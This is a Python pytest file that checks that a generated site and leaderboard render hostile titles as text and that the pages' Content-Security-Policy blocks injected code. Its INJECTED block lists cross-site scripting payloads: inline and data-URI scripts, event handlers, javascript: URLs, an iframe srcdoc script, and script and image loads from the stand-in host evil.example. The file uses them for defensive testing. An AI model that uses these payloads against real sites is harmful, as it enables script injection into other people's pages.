"""Hostile titles stay text, and a script that gets into a page all the same is stopped by the page's policy."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest

from ..hostile_titles import NAME, SEEN, hostile_board, hostile_pages, hostile_site
from ..whole_site import Once
from .conftest import serve
from .test_search_and_looks import search

INJECTED = """
<script>window.hacked = "a script"</script>
<script src="data:text/javascript,window.hacked = 'a script as data'"></script>
<script type="module">window.hacked = "a module"</script>
<img src="data:," onerror="window.hacked = 'a handler'">
<svg onload="window.hacked = 'a handler of a drawing'"></svg>
<iframe srcdoc="<script>parent.hacked = 'a script in a frame'</script>"></iframe>
<form action="javascript:window.hacked = 'a form'"><button id="send">Send</button></form>
<a id="link" href="javascript:window.hacked = 'a link'">Link</a>
<script src="http://evil.example/script.js"></script>
<img src="http://evil.example/image.png">
"""
META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
SHOWN = """() => ({
  hacked: window.hacked,
  elements: [...document.querySelectorAll("img[src='x'], [onerror]")].map((found) => found.outerHTML),
  scripts: [...document.scripts].filter((script) => script.text.includes("hacked")).length,
  turned: /[\\u202e\\x07]/.test(document.documentElement.outerHTML),
})"""
NOTHING = {"hacked": None, "elements": [], "scripts": 0, "turned": False}


@pytest.fixture(scope="module")
def pages(once: Once) -> dict[str, Path]:
    """Folders of pages of either kind."""
    return {"site": hostile_site(once), "board": hostile_board(once)}


@pytest.fixture(params=["file", "server"])
def opened(request: pytest.FixtureRequest) -> Iterator[Callable[[Path], str]]:
    """Opens a folder of pages as such, or from a server: gives its address."""
    with ExitStack() as servers:
        yield Path.as_uri if request.param == "file" else lambda folder: servers.enter_context(serve(folder))


@pytest.mark.parametrize("kind", ["site", "board"])
def test_nothing_hostile_runs_or_is_lost(kind: str, pages: dict[str, Path], visit: Callable) -> None:
    folder = pages[kind]
    window = visit(folder.as_uri())
    # The page for what is not found has addresses that begin at the root: it is for servers.
    names = [path.relative_to(folder).as_posix() for path in sorted(folder.rglob("*.html")) if path.name != "404.html"]
    for name in (name for name in names if not name.startswith("guide/rules/MBL")):
        page = window.go(name)
        assert page.evaluate(SHOWN) == NOTHING, name
        assert page.title().endswith(SEEN), name
        assert page.locator(".md-header__topic").first.inner_text().endswith(SEEN), name
        assert page.locator("a.md-logo").first.get_attribute("title").endswith(SEEN), name


def test_a_hostile_page_that_is_not_found(pages: dict[str, Path], visit: Callable) -> None:
    with serve(pages["board"]) as address:
        page = visit(address).go("404.html")
        assert page.evaluate(SHOWN) == NOTHING
        assert page.title() == SEEN
        assert page.evaluate("typeof __md_get") == "function", "the theme's own scripts run"


def test_the_texts_of_a_task_are_to_be_read(pages: dict[str, Path], visit: Callable) -> None:
    text = visit(pages["site"].as_uri()).go(f"tasks/{NAME}.html").locator("main").evaluate("main => main.textContent")
    for part in (f"{SEEN} ({SEEN})", f"How is {SEEN} distributed?", "Bars: number of rows by value"):
        assert part in text, part
    assert visit(pages["board"].as_uri()).go("index.html").locator("h1").inner_text() == SEEN


def test_the_search_shows_hostile_texts_as_text(
    pages: dict[str, Path], opened: Callable[[Path], str], visit: Callable
) -> None:
    page = visit(opened(pages["site"])).go("index.html")
    page.locator("input.md-search__input").click()
    search(page, "hacked", f"tasks/{NAME}.html")
    assert page.evaluate(SHOWN) == NOTHING


@pytest.mark.parametrize("kind", ["site", "board"])
def test_an_injected_script_is_stopped(
    kind: str, pages: dict[str, Path], opened: Callable[[Path], str], tmp_path: Path, visit: Callable
) -> None:
    folder = tmp_path / "pages"
    shutil.copytree(pages[kind], folder)
    text = (folder / "index.html").read_text(encoding="utf-8")
    _check_stopped(text, folder, opened(folder), visit)


@pytest.mark.parametrize("name", ["report", "judgement", "dossier"])
def test_nothing_runs_in_a_page_that_is_one_file(name: str, once: Once, tmp_path: Path, visit: Callable) -> None:
    text = (hostile_pages(once) / f"{name}.html").read_text(encoding="utf-8")
    _check_stopped(text, tmp_path, tmp_path.as_uri(), visit)
    shown = visit(tmp_path.as_uri()).go("clean.html").locator("main").evaluate("main => main.textContent")
    assert shown.count(SEEN) > 3, "it is to be read"


def _check_stopped(text: str, folder: Path, address: str, visit: Callable) -> None:
    """With its policy, a page runs nothing that was put into it; without, it does: the test can fail."""
    before, body, after = re.split(r"(<body[^>]*>)", text, maxsplit=1)
    (folder / "clean.html").write_text(text, encoding="utf-8")
    (folder / "injected.html").write_text(before + body + INJECTED + after, encoding="utf-8")
    (folder / "without.html").write_text(META.sub("", before) + body + INJECTED + after, encoding="utf-8")
    window = visit(address)
    assert window.go("clean.html").evaluate(SHOWN) == NOTHING
    assert window.problems == [], "the policy stops nothing of ours"
    page = window.go("injected.html")
    for clicked in ("link", "send"):
        with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
            page.evaluate("id => document.getElementById(id).click()", clicked)
    assert page.evaluate("window.hacked") is None
    stopped = [problem for problem in window.problems if "Content Security Policy" in problem]
    assert len(stopped) >= 9, window.problems
    failed = {problem for problem in window.problems if problem.startswith("failed: http://evil.example/")}
    # The browser tells of requests before the policy stops them, and then what stopped them.
    assert failed == {f"failed: http://evil.example/{name}: csp" for name in ("script.js", "image.png")}
    window.page.route("http://evil.example/**", lambda route: route.abort())
    page = window.go("without.html")
    assert page.evaluate("window.hacked") is not None
    window.page.unroute("http://evil.example/**")
    window.problems.clear()  # all of them were meant
